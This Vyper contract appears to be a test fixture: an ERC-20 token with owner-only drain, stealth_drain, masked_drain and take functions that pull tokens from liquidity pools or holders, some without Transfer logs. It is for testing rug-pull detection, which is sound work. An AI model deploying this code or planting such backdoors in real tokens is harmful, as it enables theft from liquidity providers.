# pragma version ~=0.4.3
"""
@title Drain token (a deliberately malicious ERC-20 for exploit-detection tests)
@notice Behaves like a plain ERC-20, except that its owner may take tokens out of any holder's
        balance (typically a Uniswap V2 pair) and then call the pair's ``sync()`` so the pair's
        reserves follow its shrunken balance.  ``drain`` logs the move as a Transfer (the common
        rug); ``stealth_drain`` moves the balance without any log (a token whose balance changes
        do not match its Transfer logs); ``masked_drain`` hides the drain behind a small burn of
        LP tokens this contract holds, in the same transaction; ``take`` moves tokens out of any
        holder without a ``sync()`` (a V3 pool has none).  Never deploy this anywhere but a local devnet.
"""

interface Pair:
    def sync(): nonpayable
    def burn(to: address) -> (uint256, uint256): nonpayable
    def transfer(to: address, amount: uint256) -> bool: nonpayable

event Transfer:
    sender: indexed(address)
    receiver: indexed(address)
    value: uint256

event Approval:
    owner: indexed(address)
    spender: indexed(address)
    value: uint256

name: public(String[32])
symbol: public(String[16])
decimals: public(uint8)
totalSupply: public(uint256)
balanceOf: public(HashMap[address, uint256])
allowance: public(HashMap[address, HashMap[address, uint256]])
owner: public(address)


@deploy
def __init__(supply: uint256):
    self.name = "Drain Token"
    self.symbol = "DRAIN"
    self.decimals = 18
    self.owner = msg.sender
    self.totalSupply = supply
    self.balanceOf[msg.sender] = supply
    log Transfer(sender=empty(address), receiver=msg.sender, value=supply)


@internal
def _move(sender: address, receiver: address, amount: uint256):
    assert self.balanceOf[sender] >= amount, "DRAIN: insufficient balance"
    self.balanceOf[sender] -= amount
    self.balanceOf[receiver] += amount


@external
def transfer(receiver: address, amount: uint256) -> bool:
    self._move(msg.sender, receiver, amount)
    log Transfer(sender=msg.sender, receiver=receiver, value=amount)
    return True


@external
def transferFrom(owner_: address, receiver: address, amount: uint256) -> bool:
    allowed: uint256 = self.allowance[owner_][msg.sender]
    if allowed != max_value(uint256):
        assert allowed >= amount, "DRAIN: insufficient allowance"
        self.allowance[owner_][msg.sender] = allowed - amount
    self._move(owner_, receiver, amount)
    log Transfer(sender=owner_, receiver=receiver, value=amount)
    return True


@external
def approve(spender: address, amount: uint256) -> bool:
    self.allowance[msg.sender][spender] = amount
    log Approval(owner=msg.sender, spender=spender, value=amount)
    return True


@external
def drain(pair: address, amount: uint256):
    """Take ``amount`` out of ``pair`` (logged as a Transfer), then make the pair sync."""
    assert msg.sender == self.owner, "DRAIN: only the owner"
    self._move(pair, msg.sender, amount)
    log Transfer(sender=pair, receiver=msg.sender, value=amount)
    extcall Pair(pair).sync()


@external
def stealth_drain(pair: address, amount: uint256):
    """Take ``amount`` out of ``pair`` without any Transfer log, then make the pair sync."""
    assert msg.sender == self.owner, "DRAIN: only the owner"
    self._move(pair, msg.sender, amount)
    extcall Pair(pair).sync()


@external
def masked_drain(pair: address, amount: uint256, lp_amount: uint256):
    """Take ``amount`` out of ``pair``, then burn ``lp_amount`` of the pair's LP tokens held by
    this contract, so the reserves drop at a Sync followed by a Burn."""
    assert msg.sender == self.owner, "DRAIN: only the owner"
    self._move(pair, msg.sender, amount)
    log Transfer(sender=pair, receiver=msg.sender, value=amount)
    assert extcall Pair(pair).transfer(pair, lp_amount), "DRAIN: LP transfer failed"
    extcall Pair(pair).burn(msg.sender)


@external
def take(holder: address, amount: uint256):
    """Take ``amount`` out of any ``holder`` (logged as a Transfer), with no ``sync()``: how the
    token drains a pool that has none, such as a Uniswap V3 pool."""
    assert msg.sender == self.owner, "DRAIN: only the owner"
    self._move(holder, msg.sender, amount)
    log Transfer(sender=holder, receiver=msg.sender, value=amount)
